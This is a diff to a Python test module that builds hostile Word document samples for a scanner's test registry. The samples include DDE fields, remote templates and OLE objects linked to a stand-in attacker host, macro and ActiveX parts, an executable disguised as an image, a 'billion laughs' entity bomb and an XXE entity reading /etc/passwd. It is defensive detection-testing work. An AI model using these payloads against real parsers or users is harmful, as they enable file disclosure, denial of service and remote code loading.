@@ -1,8 +1,8 @@
 """Word documents that fetch, run, carry or tell; and XML that expands."""
 
 from tests.registry.documents import honest
-from tests.registry.documents.hostile import Case
 from tests.registry.documents.honest import OFFICE, R, W
+from tests.registry.documents.hostile import Case
 
 MARK = "evil-0815.example"
 OUT = "External"
@@ -35,19 +35,21 @@ FIELDS = {
     "deleted": field(f"DDE {MARK}", kind="delInstrText"),
     "link to a file": field(f'HYPERLINK "file://{MARK}/x"'),
     "link to a script": field(f'HYPERLINK "javascript:{MARK}"'),
-    "one in another": field("PAGE ").replace("<w:t>resultat</w:t></w:r>", f"<w:t>x</w:t></w:r>{field(f'DDE {MARK}')[5:-6]}"),
+    "one in another": field("PAGE ").replace(
+        "<w:t>resultat</w:t></w:r>", f"<w:t>x</w:t></w:r>{field(f'DDE {MARK}')[5:-6]}"
+    ),
     "never closed": f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE {MARK}</w:instrText></w:r></w:p>',
     "of no field": f"<w:p><w:r><w:instrText>DDE {MARK}</w:instrText></w:r></w:p>",
 }
 A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
-O = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
+OLE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
 # body, relationships, parts, content types, settings, what is said
 CARRYING = {
     "remote template": ("", [], {"word/_rels/settings.xml.rels": honest.rels(("rT", "attachedTemplate", f"http://{MARK}/t.dotm", OUT))},
                         {}, '<w:attachedTemplate r:id="rT"/>', "outside_link"),
     "remote picture": (f'<w:p><w:drawing><a:blip {A} r:link="r1"/></w:drawing></w:p>', [("r1", "image", f"http://{MARK}/a.png", OUT)],
                        {}, {}, "", "outside_link"),
-    "remote object": (f'<w:p><w:object><o:OLEObject {O} r:id="r1"/></w:object></w:p>', [("r1", "oleObject", f"http://{MARK}/a", OUT)],
+    "remote object": (f'<w:p><w:object><o:OLEObject {OLE} r:id="r1"/></w:object></w:p>', [("r1", "oleObject", f"http://{MARK}/a", OUT)],
                       {}, {}, "", "outside_link"),
     "remote frame": ("", [("r1", "frame", f"http://{MARK}/a.htm", OUT)], {}, {}, "", "outside_link"),
     "sub document": ('<w:subDoc r:id="r1"/>', [("r1", "subDocument", f"{MARK}.docx", OUT)], {}, {}, "", "outside_link"),
@@ -59,7 +61,7 @@ CARRYING = {
     "mail merge": ("", [], {"word/_rels/settings.xml.rels": honest.rels(("rM", "mailMergeSource", f"file:///{MARK}", OUT))}, {},
                    f'<w:mailMerge><w:connectString w:val="{MARK}"/></w:mailMerge>', "outside_link"),
     "chunk of a page": ('<w:altChunk r:id="r1"/>', [("r1", "aFChunk", "afchunk.html")], {"word/afchunk.html": f"<script>{MARK}"}, {}, "", "attachment"),
-    "object": (f'<w:p><w:object><o:OLEObject {O} ProgID="Package" r:id="r1"/></w:object></w:p>', [("r1", "oleObject", "embeddings/a.ole")],
+    "object": (f'<w:p><w:object><o:OLEObject {OLE} ProgID="Package" r:id="r1"/></w:object></w:p>', [("r1", "oleObject", "embeddings/a.ole")],
                {"word/embeddings/a.ole": MARK}, {"word/embeddings/a.ole": f"{OFFICE}.oleObject"}, "", "attachment"),
     "control": ('<w:p><w:control r:id="r1"/></w:p>', [("r1", "control", "activeX/a.xml")], {"word/activeX/a.xml": f"<a>{MARK}</a>"},
                 {"word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"}, "", "macro"),
@@ -75,9 +77,11 @@ CARRYING = {
     "drawing with a script": ("", [("r1", "image", "media/a.svg")], {"word/media/a.svg": f"<svg><script>{MARK}</script></svg>"}, {}, "", "drawing"),
     "program as a picture": ("", [("r1", "image", "media/a.png")], {"word/media/a.png": b"MZ" + MARK.encode()}, {}, "", "drawing"),
 }  # fmt: skip
-LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">' + "".join(
-    f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("bcdefgh", "cdefghi", strict=True)
-) + "]>"
+LAUGHS = (
+    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+    + "".join(f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("bcdefgh", "cdefghi", strict=True))
+    + "]>"
+)
 EXPANDING = {
     "outside entity": ('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
     "outside entity of the web": (f'<!DOCTYPE x [<!ENTITY x SYSTEM "http://{MARK}/">]>', "&x;"),
@@ -96,11 +100,19 @@ def cases():
         data = honest.docx(body, links=links, parts=parts, more=more, settings=settings)
         yield Case("word that carries", name, data, (MARK.encode(),), honest.WORDS.encode(), said)
     for main in (MACRO, "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"):
-        data = honest.docx(links=[("r1", "vbaProject", "vbaProject.bin")], parts={"word/vbaProject.bin": MARK}, main=main)
+        data = honest.docx(
+            links=[("r1", "vbaProject", "vbaProject.bin")], parts={"word/vbaProject.bin": MARK}, main=main
+        )
         yield Case("macros", main[24:40], data, (MARK.encode(), b"macroEnabled"), honest.WORDS.encode(), "macro")
-    core = {"docProps/core.xml": f"<cp>{MARK}</cp>", "docProps/app.xml": f"<a>{MARK}</a>", "docProps/thumbnail.jpeg": MARK}
+    core = {
+        "docProps/core.xml": f"<cp>{MARK}</cp>",
+        "docProps/app.xml": f"<a>{MARK}</a>",
+        "docProps/thumbnail.jpeg": MARK,
+    }
     root = [("rC", "core-properties", "docProps/core.xml"), ("rD", "extended-properties", "docProps/app.xml")]
-    yield Case("tells", "properties", honest.docx(parts=core, root=root), (MARK.encode(),), honest.WORDS.encode(), "metadata")
+    yield Case(
+        "tells", "properties", honest.docx(parts=core, root=root), (MARK.encode(),), honest.WORDS.encode(), "metadata"
+    )
     yield from _expanding("docx", honest.docx_parts(), "word/document.xml", "<w:sectPr/>")
     for part in ("[Content_Types].xml", "word/_rels/document.xml.rels", "word/styles.xml"):
         parts = honest.docx_parts()
@@ -111,7 +123,11 @@ def cases():
     wrong = {**honest.docx_parts(), "word/document.xml": "<w:document>"}
     yield Case("cut short", "docx of half a document", honest.zipped(wrong))
     other = f'<?xml version="1.0" encoding="UTF-7"?><w:document {W} {R}/>'
-    yield Case("xml that expands", "docx in another encoding", honest.zipped({**honest.docx_parts(), "word/document.xml": other}))
+    yield Case(
+        "xml that expands",
+        "docx in another encoding",
+        honest.zipped({**honest.docx_parts(), "word/document.xml": other}),
+    )
     presentation = honest.docx(main=f"{OFFICE}.presentationml.presentation.main+xml")
     yield Case("other kind", "presentation", presentation)
 
